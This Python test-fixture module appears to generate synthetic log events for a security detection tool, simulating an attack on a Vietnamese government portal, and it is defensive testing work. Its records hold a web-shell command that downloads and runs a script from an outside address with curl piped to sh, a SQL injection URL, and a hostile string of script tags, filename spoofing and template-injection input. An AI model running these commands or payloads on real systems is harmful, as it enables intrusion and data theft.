"""What happened in the test city: an upload, a shell below the web server, guessed passwords, and lines that bite."""

import base64
import json
from collections.abc import Mapping
from datetime import datetime, timedelta

from sentinel.model.match import Evidence, Level, Match, RuleInfo
from sentinel.model.moment import to_text
from sentinel.model.record import Record, Value

HOSTILE = '<script>alert("x")</script> \u202egpj.exe \x00\x1b[31m {{ 12345*6789 }} %(x)s \u200bđường dẫn'

RULES = {
    "shell": RuleInfo(
        id="5f1c7f3e-0001-4c1e-9d5b-000000000001",
        title="Web server starts a shell",
        title_vi="Máy chủ web khởi chạy trình lệnh",
        level=Level.CRITICAL,
        description="A process of the web server started a command interpreter, as a web shell does.",
        description_vi="Tiến trình của máy chủ web đã khởi chạy trình thông dịch lệnh, giống như một web shell.",
        tags=("attack.t1505.003", "attack.persistence"),
        falsepositives=("Maintenance scripts of the portal",),
        falsepositives_vi=("Quản trị viên chạy lệnh tay",),
        triage="Look at the parent process first.",
        triage_vi="Xem tiến trình cha trước, rồi đến tệp vừa tải lên.",
    ),
    "guess": RuleInfo(
        id="5f1c7f3e-0002-4c1e-9d5b-000000000002",
        title="SSH sign-in after many failures",
        title_vi="Đăng nhập SSH thành công sau nhiều lần thất bại",
        level=Level.HIGH,
        tags=("attack.t1110", "attack.credential-access"),
    ),
    "bulk": RuleInfo(
        id="5f1c7f3e-0003-4c1e-9d5b-000000000003",
        title="Many citizens looked up by one account",
        title_vi="Một tài khoản tra cứu nhiều công dân",
        level=Level.MEDIUM,
    ),
    "sqli": RuleInfo(
        id="5f1c7f3e-0004-4c1e-9d5b-000000000004",
        title="SQL injection attempt against the portal",
        title_vi="Thử chèn mã SQL vào cổng dịch vụ công",
        level=Level.LOW,
    ),
    "odd": RuleInfo(
        id="5f1c7f3e-0005-4c1e-9d5b-000000000005", title=f"Odd {HOSTILE}", title_vi="", level=Level.INFORMATIONAL
    ),
}
_FIELDS = {
    "shell": ("process.parent.name", "ParentImage|endswith: nginx"),
    "guess": ("source.ip", "event.outcome: success"),
    "bulk": ("sentinel.egov.rows", "rows|gte: 500"),
    "sqli": ("url.original", "cs-uri-query|contains: union select"),
    "odd": ("message", "keywords"),
}


def records(agency: str, mark: str, collector: str, at: datetime) -> list[Record]:
    """Return the events of one agency, the oldest first."""
    described = [
        _shell(mark),
        _upload(mark),
        _parent(mark),
        *_guesses(mark),
        _success(mark),
        _bulk(mark),
        _injection(mark),
        _odd(mark),
    ]
    order = {"parent": 0, "upload": 1, "shell": 2}
    made = []
    for index, (kind, fields) in enumerate(described):
        moment = at - timedelta(minutes=6) + timedelta(seconds=11 * order.get(kind, 3 + index))
        made.append(_record(agency, mark, collector, f"{kind}-{index}", moment, kind, fields))
    return made


def _record(
    agency: str, mark: str, collector: str, name: str, moment: datetime, kind: str, fields: Mapping[str, Value]
) -> Record:
    every: dict[str, Value] = {
        "@timestamp": to_text(moment),
        "event.kind": "event",
        "event.created": to_text(moment),
        "event.ingested": to_text(moment + timedelta(seconds=1)),
        "event.id": f"{mark}{name}",
        "organization.id": agency,
        "agent.id": collector,
        "host.name": f"portal-{mark}",
        "labels.scene": kind,
    }
    return Record(f"{mark}{name}".encode().hex().ljust(40, "0")[:40], every | dict(fields))


def _shell(mark: str) -> tuple[str, dict[str, Value]]:
    line = f"sh -c 'id; uname -a; curl http://203.0.113.9/{mark}.sh | sh'"
    return "shell", {
        "event.dataset": "linux.process",
        "event.category": ["process"],
        "event.type": ["start"],
        "process.pid": 4711,
        "process.name": "sh",
        "process.executable": "/bin/dash",
        "process.command_line": line,
        "process.start": "2026-11-23T08:00:00.000000Z",
        "process.hash.sha256": "ab" * 32,
        "process.entity_id": f"{mark}-4711",
        "process.parent.pid": 800,
        "process.parent.name": "php-fpm8.2",
        "process.parent.entity_id": f"{mark}-800",
        "user.name": "www-data",
        "source.ip": "203.0.113.9",
        "file.path": "/var/www/portal/uploads/anh-the.php",
        "message": line,
        "event.original": json.dumps({"process.pid": 4711, "process.command_line": line}),
    }


def _parent(mark: str) -> tuple[str, dict[str, Value]]:
    return "parent", {
        "event.dataset": "linux.process",
        "event.category": ["process"],
        "event.type": ["start"],
        "process.pid": 800,
        "process.name": "php-fpm8.2",
        "process.command_line": "php-fpm: pool www",
        "process.entity_id": f"{mark}-800",
        "process.parent.pid": 1,
        "process.parent.name": "systemd",
        "process.parent.entity_id": f"{mark}-1",
        "user.name": "root",
        "message": "php-fpm: pool www",
        "event.original": json.dumps({"process.pid": 800}),
    }


def _web(line: str, **fields: Value) -> dict[str, Value]:
    return {
        "event.dataset": "nginx.access",
        "event.category": ["web"],
        "source.ip": "203.0.113.9",
        "message": line,
        "event.original": line,
        **fields,
    }


def _upload(mark: str) -> tuple[str, dict[str, Value]]:
    line = f'203.0.113.9 - - [23/Nov/2026:15:00:01 +0700] "POST /ho-so/tai-len?m={mark} HTTP/1.1" 200 52 "-" "curl/8"'
    return "upload", _web(line, **{"url.original": f"/ho-so/tai-len?m={mark}", "http.response.status_code": 200})


def _injection(mark: str) -> tuple[str, dict[str, Value]]:
    url = f"/tra-cuu?ma=1%27%20union%20select%20{mark}--"
    line = f'203.0.113.9 - - [23/Nov/2026:15:00:31 +0700] "GET {url} HTTP/1.1" 500 12 "-" "sqlmap/1.8"'
    return "sqli", _web(line, **{"url.original": url, "http.response.status_code": 500})


def _auth(mark: str, line: str, outcome: str) -> dict[str, Value]:
    return {
        "event.dataset": "linux.auth",
        "event.category": ["authentication"],
        "event.action": "ssh_login",
        "event.outcome": outcome,
        "source.ip": "198.51.100.23",
        "user.name": f"quantri-{mark}",
        "message": line,
        "event.original": f"Nov 23 15:00:00 portal-{mark} sshd[91]: {line}",
    }


def _guesses(mark: str) -> list[tuple[str, dict[str, Value]]]:
    line = f"Failed password for quantri-{mark} from 198.51.100.23 port 40022 ssh2"
    return [("failure", _auth(mark, line, "failure")) for _ in range(5)]


def _success(mark: str) -> tuple[str, dict[str, Value]]:
    line = f"Accepted password for quantri-{mark} from 198.51.100.23 port 40030 ssh2"
    return "guess", _auth(mark, line, "success")


def _bulk(mark: str) -> tuple[str, dict[str, Value]]:
    line = json.dumps({"action": "lookup", "user": f"canbo-{mark}", "rows": 740})
    return "bulk", {
        "event.dataset": "egov.onestop",
        "event.category": ["database"],
        "event.action": "lookup",
        "user.name": f"canbo-{mark}",
        "sentinel.egov.rows": 740,
        "sentinel.egov.office": "Một cửa phường Thủy Nguyên",
        "message": f"canbo-{mark} tra cứu 740 công dân",
        "event.original": line,
    }


def _odd(mark: str) -> tuple[str, dict[str, Value]]:
    return "odd", {
        "event.dataset": "linux.auth",
        "user.name": HOSTILE,
        "message": f"{mark} {HOSTILE}",
        "event.original": f"{mark} {HOSTILE} " + "rất-dài-" * 60,
    }


def rule_of(record: Record) -> RuleInfo | None:
    """Return the rule that fires on the record."""
    return RULES.get(str(record.fields["labels.scene"]))


def match(rule: RuleInfo, record: Record) -> Match:
    """Return the match with its evidence."""
    field, pattern = _FIELDS[str(record.fields["labels.scene"])]
    evidence = Evidence(selection="selection", field=field, value=str(record.fields.get(field, "")), pattern=pattern)
    return Match(rule=rule, record_id=record.id, at=record.at, evidence=(evidence,))


def secret_of(token: str) -> str:
    """Return the one-time secret in an enrolment token."""
    return str(json.loads(base64.urlsafe_b64decode(token + "=" * (-len(token) % 4)))["s"])


def command_id(command: Mapping[str, str]) -> str:
    """Return the id in a signed command."""
    return str(json.loads(base64.b64decode(command["payload"]))["id"])
